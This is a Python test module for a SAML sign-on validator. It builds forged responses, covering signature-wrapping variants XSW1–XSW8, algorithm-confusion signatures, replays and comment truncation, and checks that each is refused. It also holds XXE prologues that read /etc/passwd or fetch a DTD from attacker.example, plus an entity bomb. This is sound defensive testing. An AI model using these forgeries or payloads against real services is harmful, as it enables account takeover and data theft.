"""Forged, altered, stolen and stale responses: none of them signs anybody in.

The signature-wrapping variants are numbered as in "On Breaking SAML: Be Whoever You Want to Be" and in the tools that
followed it: XSW1 and XSW2 need a signed response, the others a signed assertion.
"""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable
from datetime import datetime, timedelta
from functools import cache

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from signxml.algorithms import (
    CanonicalizationMethod,
    DigestAlgorithm,
    SignatureConstructionMethod,
    SignatureMethod,
)
from signxml.signer import XMLSigner

from mimecast_sso.saml import names, response, signatures
from mimecast_sso.saml.errors import (
    Expired,
    MalformedResponse,
    NotYetValid,
    Replayed,
    SamlError,
    SignatureInvalid,
    WrongAudience,
    WrongInResponseTo,
    WrongIssuer,
    WrongRecipient,
)
from mimecast_sso.saml.names import PREFIXES, tag
from tests.saml.messages import (
    ISSUER,
    NOW,
    REQUEST_ID,
    altered,
    an_assertion,
    body,
    built,
    closed,
    find,
    key_pair,
    opened,
    validated,
)

GRACE = "grace@example.com"


# Signature wrapping


def whole_response_signed() -> str:
    """A response with a signature over all of it, and none over the assertion."""
    root = opened(built())
    find(root, "saml:Assertion").remove(find(root, "saml:Assertion/ds:Signature"))
    signatures.add_placeholder(root)
    return closed(signatures.sign(root, *key_pair("entra")))


def evil_copy(element: etree._Element) -> etree._Element:
    """The element without signatures, with another id and another person."""
    evil = copy.deepcopy(element)
    evil.set("ID", "_evil")
    for signature in evil.findall(".//ds:Signature", PREFIXES):
        parent = signature.getparent()
        assert parent is not None
        parent.remove(signature)
    find(evil, ".//saml:NameID").text = GRACE
    return evil


def without_signature(element: etree._Element) -> etree._Element:
    plain = copy.deepcopy(element)
    plain.remove(find(plain, "ds:Signature"))
    return plain


def xsw1() -> etree._Element:
    """The forged response carries the signature, which carries the signed response."""
    signed = opened(whole_response_signed())
    evil = evil_copy(signed)
    signature = copy.deepcopy(find(signed, "ds:Signature"))
    signature.append(without_signature(signed))
    evil.append(signature)
    return evil


def xsw2() -> etree._Element:
    """The forged response carries the detached signature and, beside it, the signed response."""
    signed = opened(whole_response_signed())
    evil = evil_copy(signed)
    evil.append(without_signature(signed))
    evil.append(copy.deepcopy(find(signed, "ds:Signature")))
    return evil


def xsw3() -> etree._Element:
    """A forged assertion before the signed one."""
    root = opened(built())
    genuine = find(root, "saml:Assertion")
    genuine.addprevious(evil_copy(genuine))
    return root


def xsw4() -> etree._Element:
    """The signed assertion inside a forged one."""
    root = opened(built())
    genuine = find(root, "saml:Assertion")
    evil = evil_copy(genuine)
    root.replace(genuine, evil)
    evil.append(genuine)
    return root


def xsw5() -> etree._Element:
    """The forged assertion carries the signature; the signed one follows without it."""
    root = opened(built())
    genuine = find(root, "saml:Assertion")
    evil = evil_copy(genuine)
    evil.insert(1, copy.deepcopy(find(genuine, "ds:Signature")))
    plain = without_signature(genuine)
    root.replace(genuine, evil)
    root.append(plain)
    return root


def xsw6() -> etree._Element:
    """The forged assertion carries the signature, which carries the signed assertion."""
    root = opened(built())
    genuine = find(root, "saml:Assertion")
    evil = evil_copy(genuine)
    signature = copy.deepcopy(find(genuine, "ds:Signature"))
    signature.append(without_signature(genuine))
    evil.insert(1, signature)
    root.replace(genuine, evil)
    return root


def xsw7() -> etree._Element:
    """A forged assertion with the same id in the Extensions, where a lax schema is not looked at."""
    root = opened(built())
    genuine = find(root, "saml:Assertion")
    evil = evil_copy(genuine)
    evil.set("ID", genuine.get("ID") or "")
    extensions = etree.Element(tag("samlp", "Extensions"))
    extensions.append(evil)
    genuine.addprevious(extensions)
    return root


def xsw8() -> etree._Element:
    """The forged assertion carries the signature; the signed one hides in the signature's Object."""
    root = opened(built())
    genuine = find(root, "saml:Assertion")
    evil = evil_copy(genuine)
    signature = copy.deepcopy(find(genuine, "ds:Signature"))
    etree.SubElement(signature, tag("ds", "Object")).append(without_signature(genuine))
    evil.insert(1, signature)
    root.replace(genuine, evil)
    return root


def after_the_signed_one() -> etree._Element:
    root = opened(built())
    root.append(evil_copy(find(root, "saml:Assertion")))
    return root


def signed_one_in_the_extensions() -> etree._Element:
    root = opened(built())
    genuine = find(root, "saml:Assertion")
    root.replace(genuine, evil_copy(genuine))
    etree.SubElement(root, tag("samlp", "Extensions")).append(genuine)
    return root


def with_the_same_id_and_signature() -> etree._Element:
    root = opened(built())
    genuine = find(root, "saml:Assertion")
    evil = evil_copy(genuine)
    evil.set("ID", genuine.get("ID") or "")
    evil.insert(1, copy.deepcopy(find(genuine, "ds:Signature")))
    root.replace(genuine, evil)
    etree.SubElement(find(root, "samlp:Status"), tag("samlp", "StatusDetail")).append(genuine)
    return root


@pytest.mark.parametrize(
    "wrap",
    [
        xsw1,
        xsw2,
        xsw3,
        xsw4,
        xsw5,
        xsw6,
        xsw7,
        xsw8,
        after_the_signed_one,
        signed_one_in_the_extensions,
        with_the_same_id_and_signature,
    ],
)
def test_signature_wrapping_is_refused(wrap: Callable[[], etree._Element]) -> None:
    with pytest.raises((MalformedResponse, SignatureInvalid)):
        validated(closed(wrap()))


def test_what_the_wrappings_start_from_is_accepted() -> None:
    assert validated(whole_response_signed()).name_id == "ada@example.com"
    assert validated(built()).name_id == "ada@example.com"


# Signatures that are worth nothing


def signed_otherwise(
    signature: SignatureMethod = SignatureMethod.RSA_SHA256, digest: DigestAlgorithm = DigestAlgorithm.SHA256
) -> str:
    """A response that the right key signed by another method."""

    class Lax(XMLSigner):
        def check_deprecated_methods(self) -> None:
            """Whoever forges is not held back by good advice."""

    root = opened(built())
    assertion = find(root, "saml:Assertion")
    find(assertion, "ds:Signature").getparent().remove(find(assertion, "ds:Signature"))  # type: ignore[union-attr]
    plain = etree.fromstring(etree.tostring(assertion))
    signer = Lax(
        method=SignatureConstructionMethod.enveloped,
        signature_algorithm=signature,
        digest_algorithm=digest,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    key, certificate = key_pair("entra")
    secret = body(certificate).encode()
    hmac = signature.name.startswith("HMAC")
    signed = signer.sign(
        plain,
        key=secret if hmac else key,
        cert=None if hmac else [certificate],
        reference_uri=f"#{plain.get('ID')}",
        id_attribute="ID",
    )
    root.replace(assertion, signed)
    return closed(root)


def test_the_same_way_of_signing_is_accepted_with_sha_256() -> None:
    assert validated(signed_otherwise()).name_id == "ada@example.com"


@pytest.mark.parametrize(
    ("signature", "digest"),
    [
        (SignatureMethod.RSA_SHA1, DigestAlgorithm.SHA256),
        (SignatureMethod.RSA_SHA256, DigestAlgorithm.SHA1),
        (SignatureMethod.RSA_SHA1, DigestAlgorithm.SHA1),
        # The certificate is public: taken for an HMAC key, it would sign for everybody.
        (SignatureMethod.HMAC_SHA256, DigestAlgorithm.SHA256),
    ],
)
def test_weak_and_confused_algorithms_are_refused(
    signature: SignatureMethod, digest: DigestAlgorithm
) -> None:
    with pytest.raises(SignatureInvalid, match="the signature is invalid"):
        validated(signed_otherwise(signature, digest))


def test_an_unsigned_assertion_is_refused() -> None:
    def change(root: etree._Element) -> None:
        assertion = find(root, "saml:Assertion")
        assertion.remove(find(assertion, "ds:Signature"))

    with pytest.raises(SignatureInvalid, match="not signed"):
        validated(altered(built(), change))


def test_an_empty_signature_is_refused() -> None:
    def change(root: etree._Element) -> None:
        find(root, ".//ds:SignatureValue").text = ""

    with pytest.raises(SignatureInvalid):
        validated(altered(built(), change))


def test_a_damaged_signature_is_refused_whatever_is_missing() -> None:
    parts = len(list(find(opened(built()), ".//ds:Signature").iter(etree.Element)))
    for number in range(1, parts):

        def remove(root: etree._Element, number: int = number) -> None:
            part = list(find(root, ".//ds:Signature").iter(etree.Element))[number]
            parent = part.getparent()
            assert parent is not None
            parent.remove(part)

        def empty(root: etree._Element, number: int = number) -> None:
            list(find(root, ".//ds:Signature").iter(etree.Element))[number].clear()

        for damage in (remove, empty):
            try:
                assertion = validated(altered(built(), damage))
            except SignatureInvalid:
                continue
            # The enclosed certificate is not looked at, so it may be missing.
            assert assertion.name_id == "ada@example.com"


@pytest.mark.parametrize("name", ["attacker", "entra "])
def test_another_certificate_is_refused_though_it_is_enclosed(name: str) -> None:
    forged = response.build(an_assertion(), *key_pair(name))
    with pytest.raises(SignatureInvalid):
        validated(forged)


def test_the_right_certificate_beside_another_signature_does_not_help() -> None:
    def change(root: etree._Element) -> None:
        find(root, ".//ds:X509Certificate").text = body(key_pair("entra")[1])

    with pytest.raises(SignatureInvalid):
        validated(altered(response.build(an_assertion(), *key_pair("attacker")), change))


def test_an_altered_assertion_is_refused() -> None:
    def change(root: etree._Element) -> None:
        find(root, ".//saml:NameID").text = GRACE

    with pytest.raises(SignatureInvalid):
        validated(altered(built(), change))


@pytest.mark.parametrize("uri", ["", "#_other", None])
def test_a_signature_over_something_else_is_refused(uri: str | None) -> None:
    def change(root: etree._Element) -> None:
        reference = find(root, ".//ds:Reference")
        reference.attrib.pop("URI")
        if uri is not None:
            reference.set("URI", uri)

    with pytest.raises(SignatureInvalid, match=r"something else|other than its own"):
        validated(altered(built(), change))


@pytest.mark.parametrize(
    "algorithm",
    ["http://www.w3.org/TR/1999/REC-xslt-19991116", "http://www.w3.org/TR/1999/REC-xpath-19991116"],
)
def test_transforms_that_choose_what_is_signed_are_refused(algorithm: str) -> None:
    def change(root: etree._Element) -> None:
        etree.SubElement(find(root, ".//ds:Transforms"), tag("ds", "Transform"), {"Algorithm": algorithm})

    with pytest.raises(SignatureInvalid, match="does not allow"):
        validated(altered(built(), change))


def test_a_second_signature_is_refused() -> None:
    def change(root: etree._Element) -> None:
        signature = find(root, ".//ds:Signature")
        signature.addnext(copy.deepcopy(signature))

    with pytest.raises(SignatureInvalid, match="more than one"):
        validated(altered(built(), change))


def test_duplicate_ids_are_refused() -> None:
    def change(root: etree._Element) -> None:
        root.set("ID", find(root, "saml:Assertion").get("ID") or "")

    with pytest.raises(SignatureInvalid, match="twice"):
        validated(altered(built(), change))


# Stolen, stale, for somebody else


def test_a_response_counts_once() -> None:
    used: dict[str, datetime] = {}

    def first_use(identifier: str, until: datetime) -> bool:
        return used.setdefault(identifier, until) is until

    encoded = built()
    assertion = validated(encoded, first_use=first_use)
    assert used == {assertion.id: NOW + timedelta(minutes=60) + response.CLOCK_SKEW}
    with pytest.raises(Replayed):
        validated(encoded, first_use=first_use)
    assert validated(built(), first_use=first_use).id != assertion.id


def test_an_assertion_refused_for_another_reason_is_not_used_up() -> None:
    used: list[str] = []
    with pytest.raises(SignatureInvalid):
        validated(
            response.build(an_assertion(), *key_pair("attacker")),
            first_use=lambda identifier, _: not used.append(identifier),
        )
    assert used == []


@pytest.mark.parametrize(
    ("forged", "error"),
    [
        ({"not_on_or_after": NOW - timedelta(minutes=4)}, Expired),
        ({"not_before": NOW + timedelta(minutes=4)}, NotYetValid),
        ({"audience": "https://us-api.mimecast.com/sso/CUK25A118"}, WrongAudience),
        ({"recipient": "https://attacker.example/login/saml"}, WrongRecipient),
        ({"in_response_to": "_somebody_elses"}, WrongInResponseTo),
        ({"in_response_to": None}, WrongInResponseTo),
        ({"issuer": "https://sts.windows.net/11111111-2222-3333-4444-555555555555/"}, WrongIssuer),
    ],
)
def test_a_genuine_response_for_somebody_else_is_refused(
    forged: dict[str, object], error: type[SamlError]
) -> None:
    with pytest.raises(error):
        validated(built(**forged))


@pytest.mark.parametrize(
    ("attribute", "error"), [("Destination", WrongRecipient), ("InResponseTo", WrongInResponseTo)]
)
def test_rewriting_the_envelope_does_not_help(attribute: str, error: type[SamlError]) -> None:
    """The envelope is not signed; what the assertion itself says must fit too."""
    fitting = {"Destination": "https://eu-api.mimecast.com/login/saml", "InResponseTo": REQUEST_ID}
    elsewhere = (
        {"recipient": "https://attacker.example/"} if attribute == "Destination" else {"in_response_to": "_x"}
    )

    def change(root: etree._Element) -> None:
        root.set(attribute, fitting[attribute])

    with pytest.raises(error):
        validated(altered(built(**elsewhere), change))


# What XML itself offers


def test_a_comment_does_not_cut_the_name_short() -> None:
    encoded = built(name_id="ada@example.com.evil.example")
    xml = base64.b64decode(encoded).replace(b"ada@example.com.evil", b"ada@example.com<!-- -->.evil")
    assertion = validated(base64.b64encode(xml).decode("ascii"))
    assert assertion.name_id == "ada@example.com.evil.example"


def test_a_comment_in_an_attribute_or_issuer_does_not_cut_it_short() -> None:
    encoded = built(issuer=f"{ISSUER}.evil", attributes={"mail": ("ada@example.com.evil",)})
    xml = base64.b64decode(encoded).replace(b".evil", b"<!-- -->.evil")
    forged = base64.b64encode(xml).decode("ascii")
    with pytest.raises(WrongIssuer):
        validated(forged)
    assert validated(forged, expected_issuer=f"{ISSUER}.evil").attributes == {
        "mail": ("ada@example.com.evil",)
    }


@pytest.mark.parametrize(
    "prologue",
    [
        b'<!DOCTYPE r [<!ENTITY e "grace@example.com">]>',
        b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE r [<!ENTITY % e SYSTEM "http://attacker.example/e"> %e;]>',
        b"<!DOCTYPE r [<!ATTLIST r ID ID #IMPLIED>]>",
        b'<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd">',
    ],
)
def test_document_types_are_refused(prologue: bytes) -> None:
    xml = prologue + base64.b64decode(built())
    with pytest.raises(MalformedResponse, match="document type"):
        validated(base64.b64encode(xml).decode("ascii"))


def test_entity_bombs_are_refused() -> None:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE r [<!ENTITY l0 "ha">{levels}]><r>&l9;</r>'.encode()
    with pytest.raises(MalformedResponse):
        validated(base64.b64encode(bomb).decode("ascii"))


@given(position=st.integers(min_value=0, max_value=20_000), bit=st.integers(min_value=0, max_value=7))
def test_no_single_bit_changes_who_signs_in(position: int, bit: int) -> None:
    xml = bytearray(base64.b64decode(reference_response()))
    xml[position % len(xml)] ^= 1 << bit
    try:
        assertion = validated(base64.b64encode(bytes(xml)).decode("ascii"))
    except SamlError:
        return
    assert assertion == validated(reference_response())


@cache
def reference_response() -> str:
    return built()


def test_names_are_those_of_the_specification() -> None:
    """A misspelt namespace would let every test above pass for the wrong reason."""
    root = opened(built())
    assert root.tag == f"{{{names.PROTOCOL}}}Response"
    assert find(root, "saml:Assertion/ds:Signature").tag == f"{{{names.SIGNATURE}}}Signature"
